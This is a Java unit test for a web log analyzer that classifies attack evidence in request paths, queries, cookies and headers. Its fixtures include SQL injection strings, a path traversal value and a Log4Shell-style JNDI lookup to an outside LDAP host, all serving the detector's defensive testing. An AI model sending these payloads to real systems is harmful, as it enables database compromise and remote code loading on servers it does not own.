package org.hansho.analyze;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import org.hansho.event.Analyzer;
import org.hansho.event.Event;
import org.hansho.event.EventClass;
import org.hansho.event.Fields;
import org.hansho.event.LogSource;
import org.junit.jupiter.api.Test;

class WebRequestAnalyzerTest {
  private static final Analyzer ANALYZER = new WebRequestAnalyzer();
  private static final Fields FIELDS = fields();

  private final Event event = new Event(FIELDS);
  private final Analyzer.Step step = ANALYZER.bind(FIELDS);

  private static Fields fields() {
    TreeSet<String> names = new TreeSet<>(ANALYZER.reads());
    names.addAll(ANALYZER.writes());
    return Fields.of(names);
  }

  private void request(String path, String query, String agent) {
    event.begin(new byte[0], 0, 0, 0);
    event.addText(FIELDS.id("http.request.method"), "GET");
    event.addText(FIELDS.id("url.path"), path);
    event.addText(FIELDS.id("url.query"), query);
    event.addText(FIELDS.id("user_agent.original"), agent);
    step.analyze(event);
  }

  private List<String> all(String field) {
    List<String> values = new ArrayList<>();
    for (int slot = event.first(FIELDS.id(field)); slot != Event.NONE; slot = event.next(slot)) {
      values.add(event.text(slot));
    }
    return values;
  }

  @Test
  void findingsAreFieldsInOneOrder() {
    request("/Shop//Item.PHP", "page=2&id=7%27+or+1=1--+&f=../../x", "Mozilla/5.0");
    assertThat(all("web.evidence.family")).containsExactly("sql-injection", "path-traversal");
    assertThat(all("web.evidence.parameter")).containsExactly("id", "f");
    assertThat(all("web.evidence.value")).containsExactly("7' or 1=1-- ", "../../x");
    assertThat(all("web.evidence.reason")).containsExactly("constant-condition", "path");
    assertThat(all("web.evidence.fingerprint")).containsExactly("n&n=nc");
    assertThat(all("web.evidence.count")).containsExactly("2");
    assertThat(all("url.path.normalized")).containsExactly("/shop/item.php");
    assertThat(all("url.extension")).containsExactly("php");
  }

  private void withHeader(String field, String value) {
    event.begin(new byte[0], 0, 0, 0);
    event.addText(FIELDS.id("url.path"), "/");
    event.addText(FIELDS.id(field), value);
    step.analyze(event);
  }

  @Test
  void cookiesAndHeadersThatALogHasAreJudged() {
    withHeader("cs(Cookie)", "lang=en;+session=1'+or+'1'='1");
    assertThat(all("web.evidence.family")).containsExactly("sql-injection");
    assertThat(all("web.evidence.parameter")).containsExactly("cookie session");
    withHeader("http_cookie", "a=b; tracking=x%27%20union%20select%20null%2Cversion%28%29--%20");
    assertThat(all("web.evidence.parameter")).containsExactly("cookie tracking");
    withHeader("http_x_forwarded_for", "${jndi:ldap://198.51.100.7/a}");
    assertThat(all("web.evidence.family")).containsExactly("expression-injection");
    assertThat(all("web.evidence.parameter")).containsExactly("x-forwarded-for");
  }

  @Test
  void cookiesThatSitesSetAndHeadersOfBrowsersShowNothing() {
    for (String cookie :
        List.of(
            "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.9; _gat_UA-1=1",
            "OptanonConsent=isIABGlobal=false&datestamp=Mon+Nov+02+2026+09%3A00%3A00+GMT%2B0100"
                + "&version=6.1&hosts=&groups=C0001%3A1%2CC0002%3A1",
            "prefs={\"theme\":\"dark\",\"size\":12}; csrftoken=Zm9vL2Jhcis9PQ==",
            "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln/a+b=; name=O%27Brien",
            "wordpress_logged_in_1=alice%7C1800000000%7Cx; wp-settings-1=editor%3Dtinymce%26a%3Db",
            "__utmz=1.1.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none)")) {
      withHeader("http_cookie", cookie);
      assertThat(all("web.evidence.family")).as(cookie).isEmpty();
    }
    withHeader("http_accept_language", "ja,en-US;q=0.9,en;q=0.8");
    assertThat(all("web.evidence.family")).isEmpty();
    withHeader("http_x_forwarded_for", "198.51.100.7, 2001:db8::1");
    assertThat(all("web.evidence.family")).isEmpty();
  }

  @Test
  void sensitivePathsAndToolsAreNoAttacksOfTheirOwn() {
    request("/wp-login.php", "", "Nikto");
    assertThat(all("web.path.kind")).containsExactly("administration");
    assertThat(all("web.tool")).containsExactly("Nikto");
    assertThat(all("web.evidence.family")).containsExactly("sensitive-path", "scanner-agent");
    assertThat(all("web.evidence.count")).isEmpty();
  }

  @Test
  void ordinaryRequestsGetNoEvidence() {
    request("/search", "q=salt+%26+pepper", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101");
    assertThat(all("web.evidence.family")).isEmpty();
    assertThat(all("web.tool")).isEmpty();
  }

  @Test
  void onlyRequestsOfWebServersAreJudged() {
    assertThat(ANALYZER.appliesTo(EventClass.of("a", LogSource.of(null, "webserver", null))))
        .isTrue();
    assertThat(ANALYZER.appliesTo(EventClass.of("b", LogSource.of("azure", null, "storage"))))
        .isFalse();
  }
}
